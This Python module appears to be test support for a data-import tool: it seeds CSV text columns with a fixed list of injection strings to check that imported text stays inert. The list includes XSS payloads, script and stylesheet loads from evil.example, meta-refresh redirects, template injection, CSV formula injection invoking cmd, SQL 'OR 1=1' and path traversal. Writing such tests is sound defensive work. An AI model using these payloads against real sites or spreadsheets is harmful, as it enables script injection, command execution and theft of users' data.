"""Texts that would be more than text on a page that took them for markup, a link or a template."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from pathlib import Path
from zlib import crc32

from data_access.imports.columns import Text
from data_access.imports.formats import FORMATS

# "@" becomes a word that tells one use of a text from all others. Each is a text somebody could
# write into a cell: control characters, line breaks and reversed writing are refused on import.
_TEXTS = """
<b>@</b>
<i>@</i>
<img src=@>
<a href=//@>x</a>
<script>@</script>
<script>hit('@')</script>
<script src=https://evil.example/@.js></script>
<img src=x onerror=hit('@')>
<img src=x onerror="hit('@')">
<svg onload=hit('@')>
<svg/onload=hit('@')//
<body onload=hit('@')>
<iframe src="javascript:parent.hit('@')"></iframe>
<iframe srcdoc="<script>parent.hit('@')</script>"></iframe>
<object data="javascript:hit('@')">@</object>
<details open ontoggle=hit('@')>@</details>
<input autofocus onfocus=hit('@')>
<video><source onerror=hit('@')></video>
<math><mi xlink:href="javascript:hit('@')">@</mi></math>
<a href="javascript:hit('@')">@</a>
<a href="https://evil.example/@">@</a>
<a xlink:href="https://evil.example/@">@</a>
<link rel=stylesheet href=https://evil.example/@.css>
<style>@import url(https://evil.example/@.css);</style>
<style>body{display:none}</style>@
<base href="https://evil.example/@/">
<meta http-equiv=refresh content="0;url=https://evil.example/@">
<form action=https://evil.example/@><button>@</button></form>
</td></tr></table><h1>@</h1>
</script><script>hit('@')</script>
</title><script>hit('@')</script>
</textarea><img src=x onerror=hit('@')>
--><img src=x onerror=hit('@')><!--
"><img src=x onerror=hit('@')>
' onmouseover='hit("@")' x='
" autofocus onfocus="hit('@')" x="
javascript:hit('@')
data:text/html,<script>hit('@')</script>
![@](https://evil.example/@.png)
[@](https://evil.example/@)
[@](javascript:hit('@'))
<https://evil.example/@>
https://evil.example/@
www.evil.example/@
**@** _@_ `@` # @
%{x} @
%{customdata} @ %{y:.2f}
$\\int_0^1 @ dx$
{{ 7*7 }} @
{{constructor.constructor('hit(1)')()}} @
${hit('@')}
{"props": {"children": "@"}, "type": "Script", "namespace": "dash_html_components"}
&lt;b&gt;@&lt;/b&gt;
&amp;@&nbsp;&#60;script&#62;
<br>@<br/>
<span style="position:fixed;inset:0">@</span>
<sub>@</sub><sup>@</sup>
=HYPERLINK("https://evil.example/@","@")
@SUM(1+1)*cmd|' /C calc'!A0
+1+cmd|'@'!A0
-2+3+@
'@' OR 1=1 --
\\u003cscript\\u003ehit('@')\\u003c/script\\u003e
../../../etc/@
@ مرحبا بالعالم
@ שלום עולם
@ 👩‍🏫🧑🏽‍🍼 ½ ﬁ Å
@WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW
null @
undefined @
NaN @
"""
TEXTS = tuple(line for line in _TEXTS.splitlines() if line)

# Nine signs at most, so that the shortest texts fit into codes.
WORD = re.compile(r"zqx[0-9a-f]{6}")


def naughty(about: str, limit: int = 160) -> str:
    """A text for one cell, always the same; `about` says which cell."""
    number = crc32(about.encode())
    fitting = [t for t in TEXTS if len(t.replace("@", "zqx123456")) <= limit]
    return fitting[number % len(fitting)].replace("@", f"zqx{number & 0xFFFFFF:06x}")


# Texts of a form of their own, which refuses all others.
_OF_A_FORM = frozenset({("surveys", "wave")})


def texts_of(format_key: str) -> dict[str, int]:
    """The columns of a format that take any text, and how long it may be."""
    return {
        c.heading: c.kind.limit
        for c in FORMATS[format_key].columns
        if isinstance(c.kind, Text) and (format_key, c.heading) not in _OF_A_FORM
    }


def spoil(path: Path, headings: Iterable[str], limits: dict[str, int], most: int) -> int:
    """Put a naughty text into these columns of a CSV file, and keep so many rows; how many are kept.

    Rows that tell of the same thing get the same text, for they may not contradict each other.
    """
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))[:most]
    for row in rows:
        for heading in headings:
            row[heading] = naughty(f"{heading} of {next(iter(row.values()))}", limits[heading])
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return len(rows)
